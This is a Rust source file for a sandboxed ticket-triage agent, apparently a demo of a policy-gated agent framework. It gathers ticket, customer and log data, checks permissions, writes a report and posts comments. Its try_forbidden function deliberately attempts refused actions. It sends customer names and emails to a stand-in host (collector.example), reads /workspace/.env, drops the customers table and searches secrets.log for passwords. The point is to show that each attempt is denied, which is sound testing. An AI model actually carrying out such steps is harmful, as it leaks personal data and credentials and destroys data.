//! Triage: reads the open tickets, gathers what belongs to each, writes a report, and shows that it meets its limits.
//! The same agent exists in JavaScript and Python: the same calls in the same order, the same report.

mod desk;
mod report;

wit_bindgen::generate!({ world: "agent", path: "../../../wit" });

use desk::Desk;
use sallyport::agent::{db, fs, http, log, policy, tool_exec};
use serde::{Deserialize, Serialize};
use serde_json::json;

const REPORTS: &str = "/workspace/reports";
const REPORT: &str = "/workspace/reports/triage.md";
const ORDERS: &str = "select id, total_cents from orders where customer_id = ? order by id";

#[derive(Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
struct Task {
    api: String,
    #[serde(default = "unknown_host")]
    forbidden_host: String,
}

fn unknown_host() -> String {
    "http://collector.example".into()
}

#[derive(Deserialize)]
struct Tickets {
    tickets: Vec<Ticket>,
}

#[derive(Deserialize)]
struct Ticket {
    id: u64,
    kind: String,
    customer: i64,
    subject: String,
    trace: String,
}

struct Customer {
    name: String,
    email: String,
    plan: String,
}

/// Everything that belongs to one ticket; what cannot be had is `None`.
struct Case {
    ticket: Ticket,
    customer: Option<Customer>,
    order_cents: Option<Vec<i64>>,
    runbook: Option<String>,
    found: Option<String>,
}

struct Plan {
    write: bool,
    comments: Vec<bool>,
    allowed: usize,
    total: usize,
}

#[derive(Serialize)]
struct Summary<'a> {
    comments: usize,
    customers: usize,
    denied: &'a [desk::Denied],
    report: &'a str,
    tickets: usize,
}

struct Agent;

impl Guest for Agent {
    fn run(input: String) -> Result<String, String> {
        let task: Task = serde_json::from_str(&input).map_err(|error| format!("input: {error}"))?;
        let mut desk = Desk::default();
        desk.note(log::Level::Info, "triage begins");

        let tickets = open_tickets(&mut desk, &task.api)?;
        let cases: Vec<Case> = tickets.into_iter().map(|ticket| gather(&mut desk, ticket)).collect();
        let tools = desk.attempt("tool-exec", tool_exec::list).unwrap_or_default();
        let plan = validate_plan(&mut desk, &task.api, &cases);
        try_forbidden(&mut desk, &task.forbidden_host, &cases);

        let report = report::text(&cases, &tools, &plan, &desk.denied);
        if plan.write {
            write_report(&mut desk, &report);
        }
        let mut comments = 0;
        for (case, allowed) in cases.iter().zip(&plan.comments) {
            comments += usize::from(*allowed && comment(&mut desk, &task.api, &case.ticket));
        }
        let (count, refusals) = (cases.len(), desk.denied.len());
        desk.note(log::Level::Info, &format!("triage ends: {count} tickets, {refusals} refusals"));
        let summary = Summary {
            comments,
            customers: cases.iter().filter(|case| case.customer.is_some()).count(),
            denied: &desk.denied,
            report: REPORT,
            tickets: count,
        };
        serde_json::to_string(&summary).map_err(|error| error.to_string())
    }
}

fn open_tickets(desk: &mut Desk, api: &str) -> Result<Vec<Ticket>, String> {
    let request = http::Request {
        method: http::Method::Get,
        url: format!("{api}/tickets?state=open"),
        headers: vec![("accept".into(), "application/json".into())],
        body: None,
        max_redirects: Some(0),
    };
    let answer = desk.attempt("http", || http::fetch(&request)).ok_or("the tickets cannot be read")?;
    if answer.status != 200 {
        return Err(format!("the tickets cannot be read: status {}", answer.status));
    }
    let open: Tickets = serde_json::from_slice(&answer.body).map_err(|error| format!("the tickets: {error}"))?;
    Ok(open.tickets)
}

fn gather(desk: &mut Desk, ticket: Ticket) -> Case {
    let id = [db::Value::Integer(ticket.customer)];
    let customer = desk.attempt("db", || db::query_named("main", "customer-by-id", &id));
    let orders = desk.attempt("db", || db::query("main", ORDERS, &id));
    let runbook = desk.attempt("fs", || fs::read(&format!("/workspace/runbooks/{}.md", ticket.kind), None));
    let search = json!({ "file": "service.log", "pattern": ticket.trace }).to_string();
    let found = desk.attempt("tool-exec", || tool_exec::call("search-log", &search));
    Case {
        ticket,
        customer: customer.and_then(|rows| rows.rows.first().and_then(|row| customer_of(row))),
        order_cents: orders.map(|rows| rows.rows.iter().filter_map(|row| cents_of(row)).collect()),
        runbook: runbook.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()),
        found: found.map(|output| output.stdout),
    }
}

fn customer_of(row: &[db::Value]) -> Option<Customer> {
    match row {
        [db::Value::Text(name), db::Value::Text(email), db::Value::Text(plan)] => {
            Some(Customer { name: name.clone(), email: email.clone(), plan: plan.clone() })
        }
        _ => None,
    }
}

fn cents_of(row: &[db::Value]) -> Option<i64> {
    match row {
        [_, db::Value::Integer(cents)] => Some(*cents),
        _ => None,
    }
}

/// Asks what the policy would say to each write before the first one is made.
fn validate_plan(desk: &mut Desk, api: &str, cases: &[Case]) -> Plan {
    let intend = |action: &str, resource: String| policy::Intention { action: action.into(), resource, arguments: None };
    let mut intentions = vec![intend("fs:write", REPORT.into())];
    intentions.extend(cases.iter().map(|case| intend("http:POST", comment_url(api, &case.ticket))));
    let verdicts = desk.attempt("policy", || policy::check(&intentions)).unwrap_or_default();
    let allowed: Vec<bool> = verdicts.iter().map(|verdict| *verdict == policy::Verdict::Allow).collect();
    Plan {
        write: allowed.first() == Some(&true),
        comments: allowed.iter().skip(1).copied().collect(),
        allowed: allowed.iter().filter(|one| **one).count(),
        total: intentions.len(),
    }
}

/// Once per gate, what this agent must not do. Each attempt is refused, and the refusal is data.
fn try_forbidden(desk: &mut Desk, forbidden_host: &str, cases: &[Case]) {
    let customers = cases.iter().filter_map(|case| case.customer.as_ref());
    let table: Vec<_> = customers.map(|one| json!({ "email": one.email, "name": one.name })).collect();
    desk.attempt("http", || post(format!("{forbidden_host}/customers"), &table.into()));
    desk.attempt("fs", || fs::read("/workspace/.env", None));
    desk.attempt("db", || db::execute("main", "drop table customers", &[]));
    let search = json!({ "file": "secrets.log", "pattern": "password" }).to_string();
    desk.attempt("tool-exec", || tool_exec::call("search-log", &search));
}

fn write_report(desk: &mut Desk, report: &str) {
    desk.attempt("fs", || ensure_directory(REPORTS));
    desk.attempt("fs", || fs::write(REPORT, report.as_bytes()));
}

fn ensure_directory(path: &str) -> Result<(), fs::Error> {
    match fs::make_directory(path) {
        Err(fs::Error::AlreadyExists) => Ok(()),
        other => other,
    }
}

fn comment_url(api: &str, ticket: &Ticket) -> String {
    format!("{api}/tickets/{}/comments", ticket.id)
}

fn comment(desk: &mut Desk, api: &str, ticket: &Ticket) -> bool {
    let body = json!({ "body": format!("triaged as {}, see {REPORT}", ticket.kind) });
    desk.attempt("http", || post(comment_url(api, ticket), &body)).is_some_and(|answer| answer.status == 201)
}

fn post(url: String, body: &serde_json::Value) -> Result<http::Response, http::Error> {
    http::fetch(&http::Request {
        method: http::Method::Post,
        url,
        headers: vec![("content-type".into(), "application/json".into())],
        body: Some(body.to_string().into_bytes()),
        max_redirects: Some(0),
    })
}

export!(Agent);
